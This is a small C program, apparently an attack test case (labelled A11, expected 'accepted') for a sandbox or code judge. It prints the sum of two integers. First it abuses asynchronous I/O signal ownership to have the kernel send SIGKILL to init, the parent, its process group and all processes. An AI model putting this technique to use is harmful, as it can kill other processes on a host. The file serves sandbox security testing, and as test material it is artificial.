// @attack A11 have the kernel send a signal for it, from a file that is ready for input
// @allowed accepted
// @why whoever asked for the signal must have had the right to send it
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void) {
    long long first, second;
    if (scanf("%lld %lld", &first, &second) != 2) return 1;
    const pid_t targets[] = {1, getppid(), -getppid(), -1};
    for (int target = 0; target < 4; target++) {
        int ends[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) != 0) return 1;
        fcntl(ends[0], F_SETOWN, targets[target]);
        fcntl(ends[0], F_SETSIG, SIGKILL);
        fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
        if (write(ends[1], "x", 1) != 1) return 1;
    }
    for (int output = 1; output < 3; output++) {
        fcntl(output, F_SETFL, O_NONBLOCK | O_ASYNC);
        fcntl(output, F_SETOWN, 1);
        fcntl(output, F_ADD_SEALS, F_SEAL_WRITE | F_SEAL_SHRINK | F_SEAL_SEAL);
    }
    printf("%lld\n", first + second);
    return 0;
}
